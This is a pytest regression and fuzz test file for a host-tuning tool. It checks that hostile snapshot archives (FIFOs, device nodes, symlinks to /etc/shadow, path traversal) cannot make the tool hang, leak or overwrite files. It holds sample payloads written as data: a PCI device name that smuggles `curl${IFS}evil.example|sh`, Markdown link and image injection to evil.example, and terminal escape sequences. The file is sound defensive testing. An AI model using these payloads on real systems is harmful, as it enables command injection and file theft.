"""What a second look at the fixes of issue 15 found still getting through.

A snapshot directory is extracted from a ticket's archive, by root: `tar -x` then makes the
FIFOs, device nodes and hard links the archive holds. Every name in it is the sender's, the
names tune writes to as much as the ones it reads; and a config in a user's home is that
user's, whatever a profile says about it.
"""

from __future__ import annotations

import base64
import os
import shlex
import stat
from pathlib import Path

import pytest
from conftest import deadline, run_tune
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_view import acting, cells, codes, shown
from small_host import SmallHost, build, whole_tree, write_profile

from reconciler.apply.journal import LOCK, Journal, run_path
from reconciler.core.errors import HostError
from reconciler.core.files import Request
from reconciler.hosts import known_hosts
from reconciler.hosts.directory import SnapshotHost
from reconciler.profile.load import load_profile
from reconciler.steps.records import End

DROP_IN = "etc/sysctl.d/90-tune.conf"
# Where put_file writes the drop-in before its rename (`steps.temporary`).
DROP_IN_TEMPORARY = "etc/sysctl.d/.90-tune.conf.tune-new"
SECRET = "root:$y$j9T$SeCrEtHaSh:19000:0:99999:7:::"

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="mknod of a device needs root")


def small(root: Path) -> Path:
    """A small host with tune's state directories, as any host has /var/lib and /run/lock."""
    build(root, SmallHost(sysctls={"vm.swappiness": "60"}, modules=["nvidia"], gpus=[512]))
    (root / "var/lib/tune/runs").mkdir(parents=True)
    (root / "run/lock").mkdir(parents=True)
    return root


def swappiness(tmp_path: Path) -> Path:
    return write_profile(tmp_path / "p.yaml", {"sysctl": {"vm.swappiness": 10}})


def plant(path: Path, kind: str, outside: Path | None = None) -> None:
    """A FIFO, a device (/dev/null's numbers) or a hard link to `outside` at `path`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "device":
        os.mknod(path, 0o644 | stat.S_IFCHR, os.makedev(1, 3))
    else:
        assert outside is not None
        os.link(outside, path)


@pytest.mark.parametrize("kind", ["fifo", pytest.param("device", marks=needs_root), "hardlink"])
def test_a_file_at_a_temporary_name_is_replaced_never_opened(
    tmp_path: Path, kind: str, no_hang: None
) -> None:
    """put_file opened its temporary name with O_CREAT|O_TRUNC, not O_EXCL: a FIFO there made
    apply wait for ever, a device got the drop-in's bytes (a block device's first sector, had
    it been a disk's numbers), and a hard link to a file outside the snapshot had that file
    overwritten with them."""
    root = small(tmp_path / "host")
    outside = tmp_path / "outside"
    outside.write_text(SECRET + "\n")
    plant(root / DROP_IN_TEMPORARY, kind, outside)
    applied = run_tune("apply", swappiness(tmp_path), "--root", root, "-y")
    assert applied.code == 0, applied.err
    assert outside.read_text() == SECRET + "\n"
    drop_in = root / DROP_IN
    assert stat.S_ISREG(drop_in.lstat().st_mode)
    assert "vm.swappiness = 10" in drop_in.read_text()
    assert not (root / DROP_IN_TEMPORARY).exists()


@needs_root
def test_an_emulated_module_parameter_is_never_written_to_a_device(tmp_path: Path) -> None:
    """The emulated modprobe wrote a parameter with O_NONBLOCK alone: a device node planted at
    /sys/module/M/parameters/P got the value (here /dev/full's numbers: ENOSPC says so)."""
    root = small(tmp_path / "host")
    node = root / "sys/module/nvidia_peermem/parameters/foo"
    node.parent.mkdir(parents=True)
    os.mknod(node, 0o644 | stat.S_IFCHR, os.makedev(1, 7))
    profile = write_profile(
        tmp_path / "p.yaml",
        {"modules": {"nvidia_peermem": {"value": "loaded", "params": {"foo": 1}}}},
    )
    applied = run_tune("apply", profile, "--root", root, "-y", "--no-persist")
    assert applied.code == 3, applied.err
    assert "No space left" not in applied.out + applied.err
    assert "not a regular file" in applied.out + applied.err


@pytest.mark.parametrize("kind", ["fifo", pytest.param("device", marks=needs_root)])
def test_a_journal_name_taken_by_a_fifo_or_a_device_is_an_error_not_a_wait(
    tmp_path: Path, kind: str, no_hang: None
) -> None:
    """append opened the journal without O_NONBLOCK or a type check: a FIFO at a run's
    journal blocked the run, a device took its records."""
    root = small(tmp_path / "host")
    plant(root / run_path("r").lstrip("/"), kind)
    with pytest.raises(HostError, match="not a regular file"):
        Journal(SnapshotHost(root), "r").record(End("applied", "now"))


@pytest.mark.parametrize("kind", ["fifo", pytest.param("device", marks=needs_root)])
def test_a_fifo_or_a_device_at_the_snapshots_lock_is_a_sentence_not_an_internal_error(
    tmp_path: Path, kind: str
) -> None:
    """The lock of a snapshot is opened O_RDWR|O_CREAT and truncated: a device there is opened
    (what Beneath.read never does) and ftruncate's EINVAL exits 70 "internal error"."""
    root = small(tmp_path / "host")
    plant(root / LOCK.lstrip("/"), kind)
    applied = run_tune("apply", swappiness(tmp_path), "--root", root, "-y")
    assert applied.code not in (0, 70), applied.err
    assert "internal error" not in applied.err
    assert "tune.lock" in applied.err


def test_a_users_lxc_config_linked_to_a_root_only_file_never_copies_it(tmp_path: Path) -> None:
    """~/.local/share/lxc is one of the places whose files are edited without reading as a
    config, but the directory is its user's: a link there to /etc/shadow made apply read the
    shadow file and write it, with an lxc line appended, as a 0644 file in that user's home."""
    root = small(tmp_path / "host")
    (root / "etc").mkdir(exist_ok=True)
    (root / "etc/shadow").write_text(SECRET + "\n")
    config = root / "home/alice/.local/share/lxc/x/config"
    config.parent.mkdir(parents=True)
    config.symlink_to("/etc/shadow")  # the host's own /etc/shadow, as alice would make it
    profile = write_profile(
        tmp_path / "p.yaml",
        {"lxc": [{"path": "/home/alice/.local/share/lxc/x/config", "memlock": "unlimited"}]},
    )
    plan = run_tune("plan", profile, "--root", root)
    assert plan.code == 1, plan.out
    assert "not an LXC container config" in plan.err
    run_tune("apply", profile, "--root", root, "-y")
    assert config.is_symlink() or SECRET not in config.read_text()


def test_a_pci_address_made_to_be_a_command_is_one_word_of_the_fix(tmp_path: Path) -> None:
    """The fix a plan and an audit print for the reader to copy (`setpci -s ADDRESS ...`)
    held the device's directory name unquoted: a snapshot's name
    `0000:01:00.0;curl${IFS}evil|sh;#` made it a command that runs something else."""
    root = small(tmp_path / "host")
    devices = root / "sys/bus/pci/devices"
    name = "0000:01:00.0;curl${IFS}evil.example|sh;#"
    os.rename(devices / "0000:01:00.0", devices / name)
    profile = write_profile(
        tmp_path / "p.yaml", {"pci": [{"select": {"vendor": 0x10DE}, "max_read_request": 4096}]}
    )
    for command in (("plan", profile, "--format", "markdown"), ("audit",)):
        shown = run_tune(*command, "--root", root)
        assert shown.code == 2, shown.err
        fixes = [line for line in shown.out.splitlines() if "setpci -s" in line]
        assert fixes, shown.out
        for line in fixes:
            words = shlex.split(line[line.index("setpci") :])
            assert words[:3] == ["setpci", "-s", name], line


HOSTILE_NAME = (
    "gpu01 [run this fix](https://evil.example/fix.sh) ![](https://evil.example/p.png) | x"
)
HOSTILE_VALUE = "60` [x](https://evil.example/v) `"
HOSTILE_KERNEL = "6.8.0-1 `[k](https://evil.example/k)` <img src=https://evil.example/k.png>"


def test_host_text_in_a_markdown_report_cannot_add_links_or_images(tmp_path: Path) -> None:
    """Text output escapes controls; Markdown output also rendered `[text](url)` and `![](url)`
    from a host name or value as a link and an image (a tracking pixel, "run this fix"), a
    `|` split the host table's row, and a backtick in a value ended its code span. Host text
    now renders as itself: escaped among tune's words, exact in a code span."""
    root = small(tmp_path / "host")
    (root / "proc/sys/kernel/hostname").write_text(HOSTILE_NAME + "\n")
    (root / "proc/sys/vm/swappiness").write_text(HOSTILE_VALUE + "\n")
    (root / "proc/sys/kernel/osrelease").write_text(HOSTILE_KERNEL + "\n")
    # The plan shows the swappiness it changes, the audit the kernel it finds too old, each
    # in a code span: a longer fence keeps the value whole.
    for command, value in (
        (("plan", swappiness(tmp_path)), HOSTILE_VALUE),
        (("audit",), f"/proc/sys/kernel/osrelease: {HOSTILE_KERNEL}"),
    ):
        result = run_tune(*command, "--root", root, "--format", "markdown")
        assert result.code in (0, 2), result.err
        assert acting(result.out) == [], result.out
        assert cells(result.out, "Host") == ["Host", HOSTILE_NAME], result.out
        assert cells(result.out, "Kernel") == ["Kernel", HOSTILE_KERNEL], result.out
        title = "Plan" if command[0] == "plan" else "Host audit"
        assert f"{title}: {HOSTILE_NAME}" in shown(result.out)
        assert value in codes(result.out), result.out


def test_a_chain_of_long_links_costs_a_bounded_walk_per_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each link may hold 4,000 characters and a lookup may follow 40 of them: targets of
    `d/../` repeated made every CPU of a 400-CPU snapshot (a 20 KB archive) cost 60,000
    lstat calls, and `tune plan` took minutes. A lookup that walks more components than any
    host's path has is refused as a loop (ELOOP), as a chain too long is."""
    root = small(tmp_path / "host")
    cpus = root / "sys/devices/system/cpu"
    (cpus / "d").mkdir()
    detour = "d/../" * 800
    for hop in range(39):
        (cpus / f"l{hop}").symlink_to(detour + (f"l{hop + 1}" if hop < 38 else "cpu0"))
    for cpu in range(1, 21):
        (cpus / f"cpu{cpu}").symlink_to(detour + "l0")
    calls = 0
    lstat = os.lstat

    def counted(path: str) -> os.stat_result:
        nonlocal calls
        calls += 1
        return lstat(path)

    monkeypatch.setattr("reconciler.hosts.beneath.os.lstat", counted)
    SnapshotHost(root).fetch(Request.of("/sys/devices/system/cpu/cpu*/cpufreq/scaling_governor"))
    assert calls < 21 * 5000, calls


# A hostile snapshot, generated: whatever files, links, FIFOs and names a snapshot holds, plan,
# check, snapshot and apply answer with a sentence and an exit code, never "internal error"
# (70), never a wait, never a file of this machine read or written.

HUNT = int(os.environ.get("TUNE_FUZZ_EXAMPLES", "0"))
BUDGET = settings(
    max_examples=HUNT or 25,
    deadline=None,
    derandomize=not HUNT,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

EVERYTHING = {
    "sysctl": {"vm.swappiness": 10},
    "sysfs": {"/sys/block/*/queue/scheduler": "none"},
    "cpu": {"governor": "performance", "idle_states": {"disable": ["C2"]}},
    "modules": {"nvidia_peermem": {"value": "loaded", "params": {"foo": 1}}},
    "pci": [{"select": {"vendor": 0x10DE}, "max_read_request": 4096}],
    "lxc": [{"container": "100", "memlock": "unlimited", "nvidia_devices": True}],
}
# Paths the profile reads or apply writes, and the directories above them.
PLACES = [
    "proc/sys/vm/swappiness",
    "proc/sys/vm",
    "proc/sys",
    "proc/sys/kernel/numa_balancing",
    "proc/modules",
    "proc/devices",
    "proc/sys/kernel/osrelease",
    "proc/sys/kernel/hostname",
    "sys/block/sda/queue/scheduler",
    "sys/block/sda",
    "sys/block",
    "sys/devices/system/cpu/cpu0/cpufreq/scaling_governor",
    "sys/devices/system/cpu/cpu0/cpuidle/state2/name",
    "sys/devices/system/cpu/cpu0/cpuidle/state2",
    "sys/devices/system/cpu/cpu0",
    "sys/devices/system/cpu/cpu1",
    "sys/devices/system/cpu",
    "sys/bus/pci/devices/0000:01:00.0",
    "sys/bus/pci/devices/0000:01:00.0/config",
    "sys/bus/pci/devices",
    "sys/module/nvidia_peermem",
    "sys/module/nvidia_peermem/parameters/foo",
    "dev/nvidia0",
    "dev",
    "etc/pve/lxc/100.conf",
    "etc/pve/lxc",
    "etc",
    "etc/sysctl.d",
    "etc/sysctl.d/90-tune.conf",
    DROP_IN_TEMPORARY,
    "etc/sysctl.d/99-other.conf",
    "etc/tmpfiles.d",
    "etc/modules-load.d",
    "var/lib/tune",
    "var/lib/tune/runs",
    "var/lib/tune/profile.yaml",
    "var",
    "sys/block/[*]?/queue/scheduler",
    "sys/block/a\nb/queue/scheduler",
    "sys/block/e\x1b]0;OWNED\x07\x1b[2J/queue/scheduler",
]
TARGETS = st.sampled_from(
    [
        "/",
        ".",
        "..",
        "../..",
        "../../../../../../../../..",
        "../../../../../../../../../outside/shadow",
        "../../../../../../../../../outside",
        "/etc/shadow",
        "/proc/sys/vm/swappiness",
        "/sys/devices/system/cpu/cpu0",
        "/sys/block/sda/queue/scheduler",
        "/etc/pve/lxc/100.conf",
        "self",
        "loop",
        "/dev/nvidia0/..",
        "x/../../..",
    ]
)
CHANGES = st.lists(
    st.tuples(
        st.sampled_from(PLACES),
        st.one_of(
            st.tuples(st.just("link"), TARGETS),
            st.tuples(st.just("fifo"), st.just("")),
            st.tuples(st.just("dir"), st.just("")),
            st.tuples(st.just("file"), st.sampled_from(["", "\x00\xff", "[a] b\n", "x" * 70000])),
        ),
    ),
    min_size=1,
    max_size=5,
)


def hostile_tree(root: Path, changes: list[tuple[str, tuple[str, str]]]) -> None:
    small(root)
    lxc = root / "etc/pve/lxc/100.conf"
    lxc.parent.mkdir(parents=True)
    lxc.write_text("arch: amd64\nlxc.prlimit.memlock: 65536\n")
    (root / "proc/devices").write_text("Character devices:\n195 nvidia-frontend\n")
    (root / "dev").mkdir()
    (root / "dev/nvidia0").write_text("")
    queue = root / "sys/block/sda/queue"
    queue.mkdir(parents=True)
    (queue / "scheduler").write_text("[mq-deadline] none\n")
    for rel, (what, arg) in changes:
        path = root / rel
        if path.is_dir() and not path.is_symlink():
            for child in sorted(path.rglob("*"), reverse=True):
                child.rmdir() if child.is_dir() and not child.is_symlink() else child.unlink()
            path.rmdir()
        elif path.is_symlink() or path.exists():
            path.unlink()
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
        except OSError:
            continue  # a file or a link where its directory would be: it stays so
        if what == "link":
            path.symlink_to(path.name if arg == "self" else "loop2" if arg == "loop" else arg)
            if arg == "loop":
                (path.parent / "loop2").unlink(missing_ok=True)
                (path.parent / "loop2").symlink_to(path.name)
        elif what == "fifo":
            os.mkfifo(path)
        elif what == "dir":
            path.mkdir()
        else:
            path.write_bytes(arg.encode("utf-8", "surrogateescape"))


@pytest.mark.slow
@BUDGET
@given(changes=CHANGES)
def test_no_snapshot_makes_tune_fail_internally_wait_or_leave_it(
    tmp_path_factory: pytest.TempPathFactory, changes: list[tuple[str, tuple[str, str]]]
) -> None:
    base = tmp_path_factory.mktemp("tree")
    outside = base / "outside"
    outside.mkdir()
    (outside / "shadow").write_text(SECRET + "\n")
    (base / "etc").mkdir()
    (base / "etc/shadow").write_text(SECRET + "\n")
    root = base / "a" / "b" / "host"
    hostile_tree(root, changes)
    profile = write_profile(base / "p.yaml", EVERYTHING)
    before = sorted((p, p.read_bytes()) for p in (outside / "shadow", base / "etc/shadow"))
    commands = [
        ("plan", profile, "--root", root),
        ("plan", profile, "--root", root, "--format", "json"),
        ("check", profile, "--root", root),
        ("snapshot", profile, "--root", root, "-o", base / "s.tar.gz"),
        ("plan", profile, "--root", base / "s.tar.gz"),
        ("apply", profile, "--root", root, "-y"),
        ("rollback", "--yes", "--root", root),
        ("history", "--root", root),
        ("audit", "--root", root),
    ]
    for command in commands:
        with deadline(20):
            result = run_tune(*command)
        said = result.out + result.err
        assert result.code != 70, (command[0], changes, result.err)
        assert "Traceback" not in said
        assert "SeCrEtHaSh" not in said, (command[0], changes)
        assert "\x1b" not in said, (command[0], changes)
    assert sorted((p, p.read_bytes()) for p in (outside / "shadow", base / "etc/shadow")) == before


def test_a_nul_in_the_snapshots_kernel_release_is_an_apply_error_not_an_internal_one(
    tmp_path: Path,
) -> None:
    """Found by the generator below: the emulated modprobe reads /lib/modules/RELEASE/...,
    and a NUL in the snapshot's osrelease made every os call raise ValueError: exit 70."""
    root = small(tmp_path / "host")
    (root / "proc/sys/kernel/osrelease").write_bytes(b"\x00\xff\n")
    profile = write_profile(tmp_path / "p.yaml", {"modules": {"nvidia_peermem": "loaded"}})
    applied = run_tune("apply", profile, "--root", root, "-y", "--no-persist")
    assert applied.code not in (0, 70), applied.err
    assert "internal error" not in applied.err


@pytest.mark.parametrize("gap", ["\x0c", "\x0b", "\x1c", "\x85", "\u2028"])
def test_a_known_hosts_comment_never_vouches_for_a_key(gap: str) -> None:
    """OpenSSH ends a known_hosts line at a newline only; Python's splitlines also at a form
    feed, U+0085, U+2028...: text in a comment (a host's description in a generated global
    known_hosts) became a line that vouched for another host's key."""
    key = base64.b64encode(b"K" * 32).decode()
    text = (
        f"# rack 4{gap}victim ssh-ed25519 {key}\n"
        f"web1 ssh-ed25519 {key} web one{gap}victim ssh-ed25519 {key}\n"
    )
    parsed = known_hosts.parse(text, "known_hosts")
    assert [k.patterns for k in parsed.keys] == [("web1",)]
    assert not any(k.matches("victim") for k in parsed.keys)


@pytest.mark.parametrize("moved", ["file", "directory"])
def test_a_parent_reached_through_a_link_that_now_leads_elsewhere_is_not_served_from_the_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, moved: str
) -> None:
    """`extends: current.yaml`, a link to the release in force: the cache kept the parent by
    the file the link led to, unchanged after the link moved to the next release, so every
    later run (apply included) had the old release's values (vm.swappiness 10, not 99)."""
    monkeypatch.setenv("TUNE_CACHE_DIR", str(tmp_path / "cache"))
    for release, value in (("v1", 10), ("v2", 99)):
        (tmp_path / release).mkdir()
        (tmp_path / release / "base.yaml").write_text(f"sysctl:\n  vm.swappiness: {value}\n")
        # The same bytes in both releases: only where `base.yaml` is found differs.
        (tmp_path / release / "release.yaml").write_text("extends: base.yaml\n")
    child = tmp_path / "child.yaml"
    if moved == "file":
        child.write_text("name: child\nextends: current.yaml\n")
        link, old, new = tmp_path / "current.yaml", "v1/base.yaml", "v2/base.yaml"
    else:
        child.write_text("name: child\nextends: current/release.yaml\n")
        link, old, new = tmp_path / "current", "v1", "v2"
    link.symlink_to(old)
    assert load_profile(child).data["sysctl"] == {"vm.swappiness": 10}
    link.unlink()
    link.symlink_to(new)
    assert load_profile(child).data["sysctl"] == {"vm.swappiness": 99}


@pytest.mark.parametrize("parent", ["loop", "long"])
def test_an_extends_that_cannot_be_resolved_is_a_profile_error(tmp_path: Path, parent: str) -> None:
    """`extends:` a link that leads to itself (RuntimeError from Path.resolve) or a name longer
    than PATH_MAX (ENAMETOOLONG) exited 70 "internal error"."""
    if parent == "loop":
        (tmp_path / "loop.yaml").symlink_to("loop.yaml")
        name = "loop.yaml"
    else:
        name = "a/" * 3000 + "p.yaml"
    child = tmp_path / "child.yaml"
    child.write_text(f"name: child\nextends: {name}\n")
    result = run_tune("validate", child)
    assert result.code == 65, result.err
    assert result.err.startswith(f"{child}:2:10: extends: "), result.err


def test_an_optional_knob_the_kernel_refused_is_reported_escaped(tmp_path: Path) -> None:
    """apply prints each optional knob the kernel refused (`... skipped (optional): ...`) with
    click.echo straight from the journal: a glob's match named with a terminal sequence set
    the window title. Found past the escaping of plans, checks and reports."""
    root = small(tmp_path / "host")
    name = "sd\x1b]0;OWNED\x07\x1b[2J"
    queue = root / "sys/block" / name / "queue"
    queue.mkdir(parents=True)
    (queue / "scheduler").write_text("[mq-deadline] none\n")
    refuses = root / ".tune-emulate/refuses/sys/block" / name / "queue/scheduler"
    refuses.parent.mkdir(parents=True)
    refuses.write_text("22\n")
    profile = write_profile(
        tmp_path / "p.yaml",
        {"sysfs": {"/sys/block/*/queue/scheduler": {"value": "none", "optional": True}}},
    )
    applied = run_tune("apply", profile, "--root", root, "-y", "--no-persist")
    assert applied.code == 0, applied.err
    assert "skipped (optional)" in applied.out
    assert "\x1b" not in applied.out + applied.err


def test_a_rollback_removes_the_directories_made_where_a_dangling_link_led(
    tmp_path: Path,
) -> None:
    """/etc/sysctl.d is a link to /opt/sysctl.d/current, which is not there yet: apply made
    /opt/sysctl.d/current, but journaled the directories above the path as named (none
    missing past the link), so the rollback left /opt/sysctl.d behind."""
    root = small(tmp_path / "host")
    (root / "etc").mkdir()
    (root / "opt").mkdir()
    (root / "etc/sysctl.d").symlink_to("/opt/sysctl.d/current")
    before = whole_tree(root)
    profile = swappiness(tmp_path)
    assert run_tune("apply", profile, "--root", root, "-y").code == 0
    assert (root / "opt/sysctl.d/current/90-tune.conf").exists()
    rolled = run_tune("rollback", "--yes", "--root", root)
    assert rolled.code == 0, rolled.err
    assert whole_tree(root) == before
